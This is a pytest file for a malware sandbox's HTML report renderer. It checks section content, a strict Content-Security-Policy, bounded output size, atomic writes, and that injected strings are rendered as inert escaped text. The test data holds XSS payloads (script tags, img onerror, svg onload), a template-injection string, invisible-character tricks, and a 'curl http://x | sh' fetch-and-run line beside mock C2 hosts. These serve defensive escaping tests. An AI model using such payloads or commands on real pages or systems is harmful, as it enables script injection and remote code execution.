"""The HTML report: content and links of real and rich reports, inertness of hostile
strings, bounded size of huge reports, and the atomic writer."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from html_check import assert_inert, parse
from html_reports import (
    HOSTILE,
    PUBLIC_IP,
    basic_report,
    hostile_report,
    rich_dict,
    rich_report,
)

from aasee.processing.html import CONTENT_SECURITY_POLICY, render_html, write_html
from aasee.processing.html.behaviour_view import MAX_DEPTH, OUTPUT_SHOWN
from aasee.processing.html.tables import MAX_ROWS
from aasee.processing.models import Analysis, Report, Sample


def _minimal() -> Report:
    return Report(
        sample=Sample(name="empty", size=0, md5="0" * 32, sha1="0" * 40, sha256="0" * 64),
        analysis=Analysis(id="empty-1"),
    )


@pytest.fixture(scope="module")
def rich_html() -> str:
    return render_html(rich_report())


class TestEmptyAndBasic:
    def test_empty_report_renders(self) -> None:
        html = render_html(_minimal())
        page = assert_inert(html)
        text = page.text_content
        assert "no verdict" in text and "empty" in text
        assert "not analysed (no packet capture)" in text
        assert "signatures" not in page.ids and "attack" not in page.ids

    def test_basic_report_from_the_real_builder(self) -> None:
        html = render_html(basic_report())
        page = assert_inert(html)
        text = page.text_content
        for expected in (
            "/tmp/hello.txt",
            "/tmp/hello2.txt",
            "198.51.100.7:4444",
            "ECONNREFUSED",
            "PTRACE_TRACEME",
            "ls -l /tmp",
            "hello",
        ):
            assert expected in text, expected
        assert page.ids.keys() >= {"r-processes-0", "r-processes-1", "r-files-written-0"}

    def test_csp_forbids_scripts_and_fetches(self, rich_html: str) -> None:
        page = parse(rich_html)
        csp = [a for a in page.all("meta") if a.get("http-equiv") == "Content-Security-Policy"]
        assert [a["content"] for a in csp] == [CONTENT_SECURITY_POLICY]
        assert "default-src 'none'" in CONTENT_SECURITY_POLICY
        assert "script-src" not in CONTENT_SECURITY_POLICY  # falls back to 'none'
        assert not page.all("script") and not page.all("link") and not page.all("img")
        assert rich_html.index("Content-Security-Policy") < rich_html.index("<title>")


class TestRichReport:
    def test_sections_and_verdict(self, rich_html: str) -> None:
        page = assert_inert(rich_html)
        for section in (
            "summary",
            "attack",
            "signatures",
            "processes",
            "files",
            "dropped",
            "network",
            "static",
            "syscalls",
            "output",
        ):
            assert section in page.ids, section
        badges = [a for a in page.all("span") if a.get("class") == "badge v-malicious"]
        assert len(badges) == 1
        text = page.text_content
        assert "8.2 / 10" in text and "malicious" in text
        assert "snapshot" in text and "tcg" in text and "restore" in text
        assert "kernel trace: 3 events lost" in text

    def test_network_static_and_dropped(self, rich_html: str) -> None:
        text = parse(rich_html).text_content
        for expected in (
            "c2.evil-example.com",
            "EvilBot/1.0",
            "tls.evil-example.net",
            f"{PUBLIC_IP}:443",
            "http://c2.evil-example.com/gate.php?id=1",
            "UPX_packed",
            "/lib64/ld-linux-x86-64.so.2",
            "strings-only.example.org",
            "3" * 64,
            "vanished before collection",
            "(1000000 collected)",
            "KERNEL32.dll",
            "VirtualAlloc",
            "WINDOWS_GUI",
            "f" * 32,
            "download_exec",
            "curl http://x | sh",
            "shell, 3 lines, interpreter /bin/sh",
            "48:abcdefgh:ijklmnop",
        ):
            assert expected in text, expected

    def test_attack_grouped_by_tactic(self, rich_html: str) -> None:
        page = parse(rich_html)
        headings = [
            t for t in page.text if t in ("Defense Evasion", "Discovery", "Command and Control")
        ]
        assert headings == ["Defense Evasion", "Discovery", "Command and Control"]
        links = {a["href"] for a in page.all("a") if a.get("href", "").startswith("https://")}
        assert links == {
            "https://attack.mitre.org/techniques/T1622/",
            "https://attack.mitre.org/techniques/T1071/001/",
        }
        # Listed under two tactics, anchored once.
        assert page.ids["attack-techniques-0"] == 1

    def test_evidence_links_to_the_rows_it_names(self, rich_html: str) -> None:
        page = parse(rich_html)
        hrefs = [a["href"] for a in page.all("a") if a.get("href", "").startswith("#r-")]
        for target in (
            "#r-files-written-0",
            "#r-network-http-0",
            "#r-network-connections-1",
            "#r-processes-1",
            "#r-static-yara-0",
            "#r-syscalls-ptrace-0",
        ):
            assert target in hrefs, target
            assert target[1:] in page.ids, target
        for href in hrefs:
            assert href[1:] in page.ids, f"dangling link {href}"
        text = page.text_content
        assert f"network connections dst ip: {PUBLIC_IP}" in text  # a pointer below a row
        assert "unresolved reference /files/written/99" in text

    def test_pseudo_device_writes_are_set_aside(self) -> None:
        data = rich_dict()
        written = dict(data["files"]["written"][0], path="/dev/null", flags="O_WRONLY")
        data["files"]["written"].append(written)
        page = parse(render_html(Report.model_validate(data)))
        tables = [a for a in page.all("details") if a.get("id", "").endswith("devices")]
        assert len(tables) == 1
        assert "r-files-written-1" in page.ids  # still anchored, in the collapsed table

    def test_deep_tree_is_cut_and_says_so(self) -> None:
        data = rich_dict()
        node: dict[str, Any] = {"key": "1@0", "pid": 1, "comm": "deep", "children": []}
        data["process_tree"] = [node]
        for pid in range(2, MAX_DEPTH + 10):
            child = {"key": f"{pid}@0", "pid": pid, "comm": "deep", "children": []}
            node["children"] = [child]
            node = child
        html = render_html(Report.model_validate(data))
        page = assert_inert(html)
        assert len(page.all("details")) >= MAX_DEPTH - 1
        assert "deeper descendants not shown" in page.text_content
        assert "… and 9 more processes not shown" in page.text_content


@pytest.fixture(scope="module")
def html() -> str:
    return render_html(hostile_report())


class TestHostileStrings:
    def test_no_injected_elements_or_attributes(self, html: str) -> None:
        assert_inert(html)
        lowered = html.lower()
        for raw in ("<script", "<svg", "<img", "<textarea", "onload=alert(3)>"):
            assert raw not in lowered.replace("&lt;", "\0"), raw

    def test_hostile_strings_are_shown_as_text(self, html: str) -> None:
        text = parse(html).text_content
        assert "<script>window.__pwned=1;alert(1)</script>" in text
        assert '"><svg onload=alert(3)>' in text
        assert "</script><script>alert(4)</script>" in text
        assert "<img src=x onerror=alert(2)>" in text
        # Template syntax in data is data: never evaluated.
        assert "{{ 'zq' * 3 }}{% if 1 %}jinja{% endif %}" in text and "zqzqzq" not in text

    def test_invisible_characters_are_escaped(self, html: str) -> None:
        for char in ("\u202e", "\u200b", "\x1b", "\x00"):
            assert char not in html
        text = parse(html).text_content
        assert "\\u202egnp.exe\\u200b\\x1b[31m\\x00" in text

    def test_every_section_carries_the_payload(self, html: str) -> None:
        text = parse(html).text_content
        marker = "onmouseover='window.__pwned=5'"
        assert text.count(marker) > 50
        for fact in (
            "/tmp/hello.txt",
            "EvilBot/1.0",
            "c2.evil-example.com",
            "UPX_packed",
            "Debugger Evasion",
            "anti_debug_ptrace",
            "hello\n",
        ):
            assert f"{fact}{HOSTILE[:20]}" in text, fact


class TestBounds:
    def test_huge_report_renders_bounded(self) -> None:
        data = rich_dict()
        row = data["files"]["written"][0]
        data["files"]["written"] = [
            dict(row, path=f"/tmp/{i}/" + "<" * 5000) for i in range(3 * MAX_ROWS)
        ]
        dns = data["network"]["dns_traffic"][0]
        data["network"]["dns_traffic"] = [dict(dns, name=f"n{i}." + "a" * 300) for i in range(5000)]
        sig = data["signatures"][1]
        data["signatures"] = [dict(sig, id=f"s{i}") for i in range(700)]
        data["signatures"][0]["evidence"] = sig["evidence"] * 40
        data["output"]["stdout"] = "<" * (64 * 1024)
        data["errors"] = ["warning " + "x" * 10_000] * 1000
        html = render_html(Report.model_validate(data))
        assert len(html) < 12_000_000
        text = parse(html).text_content
        assert f"… and {2 * MAX_ROWS} more rows not shown" in text
        assert f"… and {5000 - MAX_ROWS} more rows not shown" in text
        assert "… and 200 more signatures not shown" in text
        assert "… and 190 more evidence items not shown" in text
        assert f"[+{64 * 1024 - OUTPUT_SHOWN} characters not shown]" in text
        assert "… and 800 more warnings not shown" in text


class TestWrite:
    def test_write_is_atomic_and_complete(self, tmp_path: Path) -> None:
        target = tmp_path / "report.html"
        target.write_text("old")
        report = rich_report()
        write_html(report, target)
        assert target.read_text("utf-8") == render_html(report)
        assert [p.name for p in tmp_path.iterdir()] == ["report.html"]

    def test_write_failure_leaves_nothing(self, tmp_path: Path) -> None:
        with pytest.raises(FileNotFoundError):
            write_html(rich_report(), tmp_path / "missing" / "report.html")
        assert list(tmp_path.iterdir()) == []
